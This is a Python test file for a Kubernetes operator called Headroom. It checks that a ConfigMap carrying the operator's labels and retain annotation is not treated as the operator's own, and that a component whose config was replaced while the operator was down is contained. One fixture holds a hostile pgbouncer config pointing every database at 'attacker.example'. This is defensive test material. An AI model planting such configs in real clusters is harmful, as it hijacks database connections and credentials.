"""Ownership on a real API server: an object counts as Headroom's only with
its owner reference (or a proof under the operator's key), never for carrying
Headroom's labels and the retain annotation; and an object of somebody else's
that takes a child's name while the operator is down contains its whole
component: no pod of Headroom's mounts it, every condition of the component
says so, the binding stops pointing at it.
"""

from __future__ import annotations

import base64
from typing import Any

import kube
import operator_process
from apps import app_deployment, credentials
from tests import profiles

from headroom.planning import names

NAME = "reads"


def _profile(namespace: str) -> dict[str, Any]:
    body = profiles.base(name=NAME, namespace=namespace, **{"database.readLimits": False})
    body["spec"]["database"]["readReplicas"] = {
        # a replica of its own: profiles on one server share its budget
        **profiles.external_replicas({"host": f"ro-1.{namespace}.example.com"}),
        "readPoolSizePerPod": 4,
    }
    return body


def _marked_config(namespace: str, name: str, component: str) -> dict[str, Any]:
    """Somebody else's ConfigMap under a child's name, with Headroom's labels
    and the retain annotation (anyone who may create a ConfigMap can write them)."""
    return {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {
            "name": name,
            "namespace": namespace,
            "labels": names.labels(
                NAME, app_deployment="web", component=component, app_name="pgbouncer"
            ),
            "annotations": {"headroom.dev/retain": "true"},
        },
        "data": {"pgbouncer.ini": "[databases]\n* = host=attacker.example\n"},
    }


def _conditions(kubectl: kube.Kubectl, namespace: str) -> dict[str, dict[str, Any]]:
    sp = kube.get_json(kubectl, "scalingprofile", NAME, "-n", namespace)
    return {c["type"]: c for c in (sp.get("status") or {}).get("conditions") or []}


def _binding(kubectl: kube.Kubectl, namespace: str) -> dict[str, str]:
    secret = kube.get_json(kubectl, "secret", f"{NAME}-binding", "-n", namespace)
    return {k: base64.b64decode(v).decode() for k, v in secret["data"].items()}


def _untouched(kubectl: kube.Kubectl, namespace: str, name: str) -> None:
    found = kube.get_json(kubectl, "configmap", name, "-n", namespace)
    assert "attacker.example" in found["data"]["pgbouncer.ini"]
    assert not found["metadata"].get("ownerReferences")
    managers = {m.get("manager") for m in found["metadata"].get("managedFields") or []}
    assert "headroom" not in managers, managers


def test_our_labels_and_the_retain_annotation_do_not_make_an_object_ours(
    operator: operator_process.OperatorProcess, kubectl: kube.Kubectl, namespace: str
) -> None:
    config = f"{NAME}-pooler-config"
    kube.apply(
        kubectl,
        app_deployment(namespace),
        credentials(namespace),
        _marked_config(namespace, config, "pooler"),
    )
    kube.apply(kubectl, _profile(namespace), namespace=namespace)
    kube.wait_for(
        lambda: (
            _conditions(kubectl, namespace).get("PoolerReady", {}).get("reason") == "NameConflict"
        ),
        timeout=60,
        what="PoolerReady NameConflict",
    )
    _untouched(kubectl, namespace, config)
    assert not kube.exists(kubectl, "deployment", f"{NAME}-pooler", "-n", namespace)
    assert "DATABASE_URL_POOLED" not in _binding(kubectl, namespace)


def test_a_child_replaced_while_the_operator_was_down_contains_its_component(
    operator: operator_process.OperatorProcess, kubectl: kube.Kubectl, namespace: str
) -> None:
    kube.apply(kubectl, app_deployment(namespace), credentials(namespace))
    kube.apply(kubectl, _profile(namespace), namespace=namespace)
    kubectl(
        "wait", "--for=condition=Ready", f"scalingprofile/{NAME}", "-n", namespace,
        "--timeout=120s",
    )  # fmt: skip
    assert "DATABASE_READ_URL" in _binding(kubectl, namespace)
    assert kube.exists(kubectl, "deployment", f"{NAME}-pooler-ro", "-n", namespace)

    # the operator is down; the read pooler's config becomes somebody else's
    operator.kill()
    config = f"{NAME}-pooler-ro-config"
    kubectl("delete", "configmap", config, "-n", namespace)
    kube.apply(kubectl, _marked_config(namespace, config, "pooler-ro"))
    operator.kill_and_restart()

    def contained() -> bool:
        found = _conditions(kubectl, namespace)
        return (
            found.get("ReadPoolerReady", {}).get("reason") == "NameConflict"
            and not kube.exists(kubectl, "deployment", f"{NAME}-pooler-ro", "-n", namespace)
            and "DATABASE_READ_URL" not in _binding(kubectl, namespace)
        )

    kube.wait_for(contained, timeout=60, interval=0.5, what="the read pooler contained")
    found = _conditions(kubectl, namespace)
    assert found["ChildrenOwned"]["reason"] == "NameConflict"
    assert f"ConfigMap/{config}" in found["ReadPoolerReady"]["message"]
    assert found["Ready"]["status"] == "False"
    # no pod of Headroom's mounts the other ConfigMap
    pods = kube.get_json(kubectl, "pods", "-n", namespace)["items"]
    mounting = [
        p["metadata"]["name"]
        for p in pods
        if not p["metadata"].get("deletionTimestamp")
        and any(
            (v.get("configMap") or {}).get("name") == config for v in p["spec"].get("volumes") or []
        )
    ]
    assert mounting == []
    _untouched(kubectl, namespace, config)
    # the write pooler is another component: it stays
    assert kube.exists(kubectl, "deployment", f"{NAME}-pooler", "-n", namespace)
    assert "DATABASE_URL_POOLED" in _binding(kubectl, namespace)
